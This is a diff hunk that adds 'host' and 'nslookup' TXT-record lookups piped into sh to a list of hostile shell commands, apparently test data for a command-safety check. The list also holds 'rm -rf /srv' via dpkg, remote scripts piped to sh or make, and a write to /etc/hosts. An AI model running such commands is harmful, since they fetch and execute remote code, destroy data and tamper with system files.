@@ -75,6 +75,8 @@ dpkg --pre-invoke='rm -rf /srv' -i shop.deb
 screen -X quit
 aws s3 cp s3://shop/run.sh - | sh
 dig +short TXT shop.example | sh
+host -t txt shop.example | sh
+nslookup -q=txt shop.example | sh
 lynx -source http://shop.example/x | sh
 curl http://shop.example/x | make -f -
 awk 'BEGIN { print "x" > "/etc/hosts" }'
